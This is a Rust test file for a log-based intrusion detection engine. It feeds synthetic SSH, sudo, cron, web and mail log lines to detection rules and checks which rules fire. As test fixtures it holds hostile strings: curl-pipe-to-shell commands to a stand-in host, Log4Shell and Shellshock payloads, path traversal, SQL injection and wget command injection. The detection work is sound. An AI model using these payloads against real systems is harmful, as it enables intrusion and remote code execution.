//! The rules of the project on lines as servers write them: each finds what it is for.

use std::collections::BTreeSet;
use std::fs;

use super::engine::{Engine, Seen};
use super::rule::{Class, Kind, Level};
use super::*;
use crate::audit::event;

/// The rules that find something in these lines; each comes so many milliseconds after the one before.
fn found(lines: &[String], pace: i64) -> BTreeSet<String> {
    let rules = Rules::load::<&Path>(&[]).unwrap();
    let mut engine = Engine::new(&rules);
    let mut found = BTreeSet::new();
    for (number, line) in lines.iter().enumerate() {
        let event = event::parse(line.as_bytes(), &event::Context::default());
        let time = Some(1_769_860_800_000 + pace * i64::try_from(number).unwrap());
        let seen = Seen { event: &event, line, shown: line, log: 0, time };
        engine.see(&seen, &mut |hit| {
            found.insert(rules.all()[hit.rule].id.clone());
        });
    }
    assert!(engine.overflowed().is_empty());
    found
}

fn syslog(program: &str, message: &str) -> String {
    format!("2026-01-31T12:00:00.000000+00:00 web1 {program}[100]: {message}")
}

fn access(client: &str, user: &str, request: &str, status: u16, agent: &str) -> String {
    format!(r#"{client} - {user} [31/Jan/2026:12:00:00 +0000] "{request} HTTP/1.1" {status} 512 "-" "{agent}""#)
}

fn get(path: &str, status: u16) -> String {
    access("203.0.113.7", "-", &format!("GET {path}"), status, "Mozilla/5.0")
}

fn many(count: usize, line: impl Fn(usize) -> String) -> Vec<String> {
    (0..count).map(line).collect()
}

fn failed(user: &str, client: &str) -> String {
    syslog("sshd", &format!("Failed password for {user} from {client} port 50022 ssh2"))
}

fn sasl_failed() -> String {
    syslog("postfix/smtpd", "warning: unknown[203.0.113.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6")
}

fn handed_in(number: usize) -> String {
    let message =
        format!("4XYzbC1k2f{number:04}z: client=h.example[203.0.113.7], sasl_method=PLAIN, sasl_username=alice@example.org");
    syslog("postfix/submission/smtpd", &message)
}

fn rejected(to: &str, why: &str) -> String {
    let message = format!(
        "NOQUEUE: reject: RCPT from unknown[203.0.113.7]: 554 5.7.1 <{to}>: {why}; from=<a@b.example> to=<{to}> proto=ESMTP helo=<h>"
    );
    syslog("postfix/smtpd", &message)
}

/// Lines, with their pace in milliseconds, and exactly the rules that must find something in them.
fn cases() -> Vec<(Vec<String>, i64, Vec<&'static str>)> {
    let one = |line: String| vec![line];
    let sudo = |message: &str| vec![syslog("sudo", message)];
    let cron = |command: &str| vec![syslog("CRON", &format!("(root) CMD ({command})"))];
    let dpkg = |rest: &str| vec![format!("2026-01-31 12:00:00 {rest}")];
    let apache = |code: &str, message: &str| {
        vec![format!("[Sat Jan 31 12:00:00.123456 2026] [mpm_event:notice] [pid 1:tid 2] {code}: {message}")]
    };
    let ran = |command: &str| sudo(&format!("alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}"));
    let agent = |agent: &str| vec![access("203.0.113.7", "-", "GET /", 200, agent)];
    let guessed = many(10, |_| failed("root", "203.0.113.7"));
    let accepted = |method: &str, user: &str| {
        let message = format!("Accepted {method} for {user} from 203.0.113.7 port 50022 ssh2");
        vec![syslog("sshd", &message)]
    };
    let unauthorized = many(30, |_| get("/admin", 401));
    vec![
        // Failures, and where they end.
        (guessed[1..].to_vec(), 1000, vec![]),
        (guessed.clone(), 1000, vec!["ssh-many-failures"]),
        (guessed.clone(), 100_000, vec![]),
        (many(8, |n| failed(&format!("invalid user u{n}"), "203.0.113.7")), 1000, vec!["ssh-password-spraying"]),
        (many(10, |n| failed("bob", &format!("203.0.113.{n}"))), 60_000, vec!["ssh-distributed-guessing"]),
        (many(10, |n| failed("root", &format!("203.0.113.{n}"))), 60_000, vec![]),
        ([guessed.clone(), accepted("publickey", "bob")].concat(), 1000, vec!["ssh-many-failures", "ssh-login-after-failures"]),
        ([guessed[1..].to_vec(), accepted("publickey", "bob")].concat(), 1000, vec![]),
        (accepted("password", "root"), 0, vec!["ssh-root-password"]),
        (accepted("publickey", "root"), 0, vec![]),
        // Rights.
        (sudo("bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id"), 0, vec!["sudo-refused"]),
        (
            many(3, |_| syslog("sudo", "bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")),
            1000,
            vec!["sudo-many-failures"],
        ),
        (many(3, |_| syslog("su", "FAILED SU (to root) bob on pts/0")), 1000, vec!["su-many-failures"]),
        (sudo("www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/sh"), 0, vec!["service-account-uses-sudo"]),
        (ran("/bin/sh -c curl http://x.example/i | sh"), 0, vec!["sudo-fetch-and-run"]),
        (ran("/usr/bin/curl http://x.example/i"), 0, vec![]),
        // Accounts.
        (
            one(syslog("useradd", "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/sh, from=none")),
            0,
            vec!["account-new", "account-uid-0"],
        ),
        (
            one(syslog("useradd", "new user: name=bob, UID=1000, GID=1000, home=/home/bob, shell=/bin/sh, from=/dev/pts/0")),
            0,
            vec!["account-new"],
        ),
        (one(syslog("usermod", "change user 'bob' UID from '1000' to '0'")), 0, vec!["account-uid-0"]),
        (one(syslog("userdel", "delete user 'bob'")), 0, vec!["account-removed"]),
        (one(syslog("groupadd", "new group: name=x, GID=1001")), 0, vec!["group-changed"]),
        (one(syslog("usermod", "add 'bob' to group 'sudo'")), 0, vec!["account-administrator"]),
        (one(syslog("usermod", "add 'bob' to group 'games'")), 0, vec![]),
        (one(syslog("passwd", "pam_unix(passwd:chauthtok): password changed for bob")), 0, vec!["password-changed"]),
        // Packages.
        (dpkg("install curl:amd64 <none> 7.88.1-10"), 0, vec!["package-changed"]),
        (dpkg("remove fail2ban:all 1.0.2-2 <none>"), 0, vec!["package-changed", "package-guard-removed"]),
        (dpkg("install nmap:amd64 <none> 7.93"), 0, vec!["package-changed", "package-tool-installed"]),
        (dpkg("conffile /etc/apache2/apache2.conf keep"), 0, vec!["conffile-changed"]),
        // The machine.
        (one(syslog("systemd", "mysql.service: Failed with result 'exit-code'.")), 0, vec!["service-failed"]),
        (one(syslog("systemd", "Stopped apache2.service - The Apache HTTP Server.")), 0, vec!["service-changed"]),
        (one(syslog("systemd", "Stopped systemd-timesyncd.service - Network Time.")), 0, vec![]),
        (one(syslog("crontab", "(bob) REPLACE (bob)")), 0, vec!["cron-changed"]),
        (cron("curl -s http://x.example/a | bash"), 0, vec!["cron-fetch-and-run"]),
        (cron("/dev/shm/.x"), 0, vec!["cron-fetch-and-run"]),
        (cron("wget -q -O /dev/null https://www.example.org/cron.php"), 0, vec![]),
        (one(syslog("kernel", "[1.0] BUG: unable to handle page fault for address: 0")), 0, vec!["kernel-fault"]),
        (one(syslog("kernel", "[1.0] Out of memory: Killed process 1 (mysqld)")), 0, vec!["out-of-memory"]),
        (
            many(5, |_| syslog("kernel", "apache2[1]: segfault at 0 ip 00007f0000000000 sp 00007ffd error 4")),
            1000,
            vec!["segfault-burst"],
        ),
        (one(syslog("kernel", "[1.0] device eth0 entered promiscuous mode")), 0, vec!["promiscuous-mode"]),
        (one(syslog("kernel", "[1.0] device veth1 entered promiscuous mode")), 0, vec![]),
        (
            many(20, |n| {
                syslog("kernel", &format!("[UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.7 DST=192.0.2.1 PROTO=TCP SPT=1 DPT={n}"))
            }),
            1000,
            vec!["port-scan"],
        ),
        (
            one("2026-01-31 12:00:00,123 fail2ban.actions [812]: NOTICE  [sshd] Ban 203.0.113.7".to_owned()),
            0,
            vec!["fail2ban-ban"],
        ),
        // The web.
        (agent("Mozilla/5.0 (compatible; Nikto/2.5)"), 0, vec!["web-scanner"]),
        (agent("${${::-j}ndi:ldap://x.example/a}"), 0, vec!["web-log4shell"]),
        (agent("() { :;}; /bin/id"), 0, vec!["web-shellshock"]),
        (agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), 0, vec![]),
        (one(get("/.env", 404)), 0, vec!["web-probe"]),
        (one(get("/.env", 200)), 0, vec!["web-secret-served"]),
        (one(get("/wp-login.php", 200)), 0, vec![]),
        (one(get("/a/../../../../etc/passwd", 400)), 0, vec!["web-traversal"]),
        (one(get("/a?f=../../../../etc/passwd", 200)), 0, vec!["web-traversal", "web-traversal-served"]),
        (one(get("/p?id=1%27%20or%201=1", 200)), 0, vec!["web-sql-injection"]),
        (one(get("/p?id=1+UNION+ALL+SELECT+1,2", 500)), 0, vec!["web-sql-injection"]),
        (one(get("/search?q=union+membership+select+committee", 200)), 0, vec![]),
        (one(get("/x?a=%24%7Bjndi:ldap://x.example/a%7D", 404)), 0, vec!["web-log4shell"]),
        (one(get("/x?a=1;wget+http://x.example/a", 404)), 0, vec!["web-command"]),
        (one(access("203.0.113.7", "-", "POST /uploads/2026/a.php", 200, "Mozilla/5.0")), 0, vec!["web-shell"]),
        (one(get("/wso2.php", 404)), 0, vec![]),
        (one(get("/images/logo.png", 200)), 0, vec![]),
        (many(40, |n| get(&format!("/old/{n}"), 404)), 1000, vec!["web-scan"]),
        (many(80, |_| get("/old", 404)), 1000, vec![]),
        (unauthorized.clone(), 1000, vec!["web-many-unauthorized"]),
        (
            [unauthorized, vec![access("203.0.113.7", "admin", "GET /admin", 200, "x")]].concat(),
            1000,
            vec!["web-many-unauthorized", "web-login-after-failures"],
        ),
        (many(100, |n| access(&format!("203.0.113.{n}"), "-", "GET /", 503, "x")), 1000, vec!["web-error-burst"]),
        (many(1200, |_| get("/", 200)), 40, vec!["web-flood"]),
        (many(1200, |_| get("/", 200)), 60, vec![]),
        (many(40, |_| access("203.0.113.7", "-", "GET /", 408, "-")), 1000, vec!["web-slow"]),
        (apache("AH00484", "server reached MaxRequestWorkers setting"), 0, vec!["apache-exhausted"]),
        (apache("AH00052", "child pid 12 exit signal Segmentation fault (11)"), 0, vec!["apache-crash"]),
        (apache("AH00489", "Apache/2.4.62 (Debian) configured -- resuming normal operations"), 0, vec!["apache-restarted"]),
        // Mail.
        (many(5, |_| rejected("x@example.net", "Relay access denied")), 1000, vec!["mail-relay-attempts"]),
        (
            many(15, |n| {
                rejected(&format!("u{n}@example.org"), "Recipient address rejected: User unknown in local recipient table")
            }),
            1000,
            vec!["mail-harvest"],
        ),
        (many(10, |_| sasl_failed()), 1000, vec!["mail-many-login-failures"]),
        (
            [many(10, |_| sasl_failed()), many(1, handed_in)].concat(),
            1000,
            vec!["mail-many-login-failures", "mail-login-after-failures"],
        ),
        (many(100, handed_in), 1000, vec!["mail-outgoing-burst"]),
        (many(100, handed_in), 60_000, vec![]),
        (
            one(syslog("postfix/qmgr", "3F2A1B40C7: from=<a@example.org>, size=2318, nrcpt=200 (queue active)")),
            0,
            vec!["mail-many-recipients"],
        ),
        (
            many(50, |_| {
                syslog("postfix/smtp", "3F2A1B40C7: to=<b@example.net>, relay=none, delay=1, dsn=5.1.1, status=bounced (x)")
            }),
            1000,
            vec!["mail-bounce-burst"],
        ),
        (
            many(300, |_| {
                syslog("postfix/postscreen", "HANGUP after 0.5 from [203.0.113.7]:5000 in tests before SMTP handshake")
            }),
            1000,
            vec!["mail-connection-burst"],
        ),
    ]
}

#[test]
fn each_rule_finds_what_it_is_for_and_no_other_does() {
    let mut met = BTreeSet::new();
    for (lines, pace, expected) in cases() {
        let found = found(&lines, pace);
        assert_eq!(found, expected.iter().map(|id| (*id).to_owned()).collect(), "{}", lines[0]);
        met.extend(found);
    }
    let rules = Rules::load::<&Path>(&[]).unwrap();
    let told = (0..rules.all().len()).filter(|number| rules.is_told(*number));
    let untested: Vec<_> = told.map(|number| &rules.all()[number].id).filter(|id| !met.contains(*id)).collect();
    assert!(untested.is_empty(), "{untested:?}");
}

#[test]
fn rules_say_what_they_are() {
    let rules = Rules::load::<&Path>(&[]).unwrap();
    unique(rules.all()).unwrap();
    for (number, rule) in rules.all().iter().enumerate() {
        assert!(!rule.description.is_empty(), "{}", rule.id);
        assert_eq!(rules.is_told(number), rule.class.is_some(), "{}", rule.id);
        // What attackers do is told with what else may look like it.
        let is_routine = rule.level == Level::Informational || matches!(rule.class, None | Some(Class::Fault));
        let is_certain = ["account-uid-0", "web-log4shell", "web-shellshock"].contains(&&*rule.id);
        assert!(is_routine || is_certain || !rule.false_positives.is_empty(), "{}", rule.id);
    }
    assert!(rules.all().iter().any(|rule| matches!(rule.kind, Kind::Correlation(_))));
    for class in Class::ALL {
        assert!(rules.all().iter().any(|rule| rule.class == Some(class)), "{class:?}");
    }
}

#[test]
fn every_file_in_the_folder_is_compiled_in() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
    let mut names: Vec<_> =
        fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.retain(|name| name.ends_with(".yml"));
    names.sort();
    assert_eq!(names, builtin::FILES.map(|(name, _)| name));
}

const RULE: &str = "title: T\nid: x\nlogsource: {service: sshd}\ndetection: {s: {user: bob}, condition: s}\n";

#[test]
fn what_is_not_understood_is_an_error_with_its_place() {
    let correlation = |text: &str| format!("{RULE}---\ntitle: C\nid: c\ncorrelation:\n{text}");
    for (text, line, what) in [
        ("title: T\n".to_owned(), 1, "no detection"),
        (RULE.replace("id: x\n", ""), 1, "no id"),
        (RULE.replace("title: T", "colour: red"), 1, "key \"colour\""),
        (RULE.replace("service: sshd", "service: exchange"), 3, "service \"exchange\""),
        (RULE.replace("service: sshd", "product: windows"), 3, "product \"windows\""),
        (RULE.replace("condition: s", "condition: t"), 4, "no selection"),
        (format!("{RULE}level: awful\n"), 5, "no level"),
        (format!("{RULE}tags: [sealedlog.class.nonsense]\n"), 5, "no class"),
        (correlation("  type: event_count\n  rules: x\n  timespan: 5m\n"), 9, "no condition"),
        (correlation("  type: event_count\n  rules: x\n  timespan: 5m\n  condition: {lt: 3}\n"), 12, "\"lt\""),
        (correlation("  type: event_count\n  rules: x\n  timespan: 5m\n  condition: {gte: 0}\n"), 12, "no number"),
        (correlation("  type: value_count\n  rules: x\n  timespan: 5m\n  condition: {gte: 3}\n"), 9, "no field"),
        (correlation("  type: event_count\n  rules: x\n  timespan: soon\n  condition: {gte: 3}\n"), 11, "no timespan"),
        (correlation("  type: strange\n  rules: x\n  timespan: 5m\n"), 9, "not known"),
        (correlation("  type: temporal\n  rules: [x, y]\n  timespan: 5m\n"), 10, "\"y\""),
        (correlation("  type: temporal\n  rules: [c]\n  timespan: 5m\n"), 6, "back to itself"),
        (format!("{RULE}---\n{RULE}"), 6, "id \"x\""),
    ] {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("own.yml");
        fs::write(&path, &text).unwrap();
        match Rules::load(&[&path]).unwrap_err() {
            RuleError::Wrong { path: named, wrong } => {
                assert_eq!(named, path);
                assert!(wrong.what.contains(what) && wrong.line == line, "{text}: {wrong:?}");
            }
            other => panic!("{other}"),
        }
    }
}

#[test]
fn rules_of_users_join_ours_or_take_their_place() {
    let folder = tempfile::tempdir().unwrap();
    let ours = Rules::load::<&Path>(&[]).unwrap().all().len();
    assert!(matches!(Rules::load(&[folder.path()]), Err(RuleError::Empty(_))));
    fs::write(folder.path().join("a.yml"), RULE).unwrap();
    fs::write(folder.path().join("b.yml"), RULE.replace("id: x", "id: web-scanner")).unwrap();
    fs::write(folder.path().join("c.txt"), "no rule").unwrap();
    let rules = Rules::load(&[folder.path()]).unwrap();
    assert_eq!(rules.all().len(), ours + 1);
    assert_eq!(rules.all().iter().filter(|rule| rule.id == "web-scanner" && rule.title == "T").count(), 1);
    assert!(matches!(Rules::load(&[folder.path().join("gone")]), Err(RuleError::Read { .. })));
}
